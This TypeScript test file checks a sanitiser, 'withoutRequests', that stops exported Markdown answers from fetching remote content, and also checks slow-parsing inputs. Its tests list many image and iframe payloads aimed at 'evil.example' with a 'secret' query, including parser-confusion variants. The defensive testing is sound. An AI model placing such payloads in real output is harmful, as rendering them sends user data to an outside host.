import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Marked } from 'marked'
import { withoutRequests } from './without-requests.ts'

const EVIL = 'https://evil.example/?q=secret'
const asHtml = (text: string) => new Marked({ async: false }).parse(text, { async: false })
/** What a reader of Markdown that shows HTML, as many do, would ask the network for. */
const requestsOf = (text: string) =>
  asHtml(text).match(/<(?:img|iframe|video|link|object)\b/gi) ?? []

test('no picture and no HTML of an answer is asked for when somebody opens the export', () => {
  const attacks = [
    `![x](${EVIL})`,
    `![x][r]\n\n[r]: ${EVIL}`,
    `\\\\![x](${EVIL})`,
    `[![badge](${EVIL})](https://a.example)`,
    `<img src="${EVIL}">`,
    `<IMG\nsrc="${EVIL}">`,
    `<img alt="<" src="${EVIL}">`,
    `text <iframe src=${EVIL}></iframe> text`,
    `<div>\n<img src=${EVIL}>\n</div>`,
    // Where readers disagree on what is code.
    `text\n      \`\`\`\n![x](${EVIL})\n      \`\`\``,
    `\`a\n- ![x](${EVIL}) \``,
    `| \`a | ![x](${EVIL}) \` |\n|---|---|\n| 1 | 2 |`,
    `\\\`![x](${EVIL})\\\``,
    `- \`\`\`\n  ![x](${EVIL})\n  \`\`\`\n- ![x](${EVIL})`,
    `> ![x](${EVIL})`,
    `\`\`![x](${EVIL})\``,
  ]
  for (const attack of attacks) {
    assert.deepEqual(requestsOf(withoutRequests(attack)), [], attack)
  }
  // Left as they are most of them work.
  assert.ok(attacks.filter((attack) => requestsOf(attack).length > 0).length > 9)
})

test('words, code, formulas and addresses stay as they were, and a picture is a link with its words', () => {
  const kept = [
    'Two < three, a<b$ and $x<y$, 5 > 4 <br> <https://a.example> <me@a.example>',
    '```html\n<img src="a.png">\n![x](y)\n```',
    'Write `![alt](address)` or ``<img>`` so.',
    '1. Do\n\n   ```html\n   <img src="a.png">\n   ```\n\n2. Done',
    '> ```\n> <div>![x](y)\n> ```',
    '\\![no picture](https://a.example)',
    'Wow![^1]\n\n[^1]: A note.'.replace('![', '! ['),
  ]
  for (const text of kept) assert.equal(withoutRequests(text), text)
  assert.equal(
    withoutRequests('See ![a cat](https://a.example/cat.png).'),
    'See [a cat](https://a.example/cat.png).',
  )
  assert.equal(withoutRequests('<b style="x">bold</b>'), '&lt;b style="x">bold&lt;/b>')
})

test('hostile texts take no time', () => {
  for (const text of [
    '`'.repeat(50_000),
    '<a '.repeat(30_000),
    '![`'.repeat(30_000),
    '`a'.repeat(40_000),
    '<a =<'.repeat(20_000),
  ]) {
    const startedAt = performance.now()
    withoutRequests(text)
    assert.ok(performance.now() - startedAt < 2_000, text.slice(0, 6))
  }
})
